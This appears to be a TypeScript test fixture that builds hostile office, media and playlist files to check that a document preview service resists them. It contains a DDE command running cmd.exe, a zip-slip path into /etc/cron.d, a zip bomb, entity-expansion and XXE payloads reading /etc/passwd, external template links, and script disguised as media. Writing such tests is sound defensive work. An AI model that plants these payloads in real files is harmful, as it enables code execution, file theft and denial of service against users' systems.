import { strToU8, zipSync, type Zippable } from "fflate";
import { file, foreign, type HostileFile, notShown, own, script } from "./hostile-file.ts";

const word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const excel = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const text = "application/vnd.oasis.opendocument.text";

const zip = (files: Zippable): Buffer => Buffer.from(zipSync(files, { level: 9 }));
const paragraph = (content: string): string => `<w:p><w:r><w:t>${content}</w:t></w:r></w:p>`;

const entities = Array.from({ length: 20 }, (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`).join(
  "",
);

/** The beginning of a member is a table of relations; each leads elsewhere. */
const relations = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
Target="${foreign}.dotm" TargetMode="External"/><Relationship Id="r2" TargetMode="External" Target="mhtml:${foreign}!x-usc:${foreign}"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"/></Relationships>`;

const playlist = `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-KEY:METHOD=AES-128,URI="${own}"\n#EXTINF:10,\n${own}\n#EXTINF:10,\n${foreign}.ts\n#EXT-X-ENDLIST\n`;

/** Files that hold others: documents of offices, recordings, archives. */
export const containerFiles: readonly HostileFile[] = [
  file(
    "a document with macros and templates elsewhere",
    "template.docx",
    word,
    zip({
      "word/document.xml": strToU8(
        `${paragraph("Words of the document")}<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>`,
      ),
      "word/_rels/settings.xml.rels": strToU8(relations),
      "word/vbaProject.bin": strToU8(script),
      "../../../etc/cron.d/told": strToU8(script),
    }),
    "Words of the document",
  ),
  file(
    "a document that unpacks to gigabytes",
    "bomb.docx",
    word,
    zip({
      "word/document.xml": new Uint8Array(500_000_000).fill(32),
    }),
    /are not shown here|This is the text of the document|could not be shown/,
  ),
  file(
    "a table of a thousand million cells",
    "bomb.xlsx",
    excel,
    zip({
      "xl/sharedStrings.xml": strToU8(`<sst><si><t>cell</t></si></sst>`),
      "xl/worksheets/sheet1.xml": strToU8(
        `<sheetData>${`<row>${'<c t="s"><v>0</v></c>'.repeat(1000)}</row>`.repeat(1000)}</sheetData>`,
      ),
    }),
    /cell|are not shown here/,
  ),
  file(
    "a document whose entities expand to more than memory",
    "entities.docx",
    word,
    zip({
      "word/document.xml": strToU8(
        `<!DOCTYPE a [<!ENTITY e0 "a"><!ENTITY x SYSTEM "file:///etc/passwd">${entities}]>${paragraph("Before &e20; &x; after")}`,
      ),
    }),
    "after",
  ),
  file(
    "a document of an office that is a page",
    "page.odt",
    text,
    `<html><script>${script}</script></html>`,
    /are not shown here|script/,
  ),
  file("a playlist that is called a film", "film.mp4", "video/mp4", playlist, notShown),
  file("a playlist of sounds", "songs.m3u8", "audio/mpegurl", playlist, notShown),
  file("a page that is called a song", "song.mp3", "audio/mpeg", `<html><script>${script}</script></html>`, notShown),
  file(
    "a film that ends in its beginning",
    "short.mp4",
    "video/mp4",
    Buffer.from("\0\0\0\x18ftypmp42\xff\xff\xff\xffmoov", "latin1"),
    notShown,
  ),
  file("a program", "setup.exe", "application/x-msdownload", "MZ\x90\0", notShown),
];
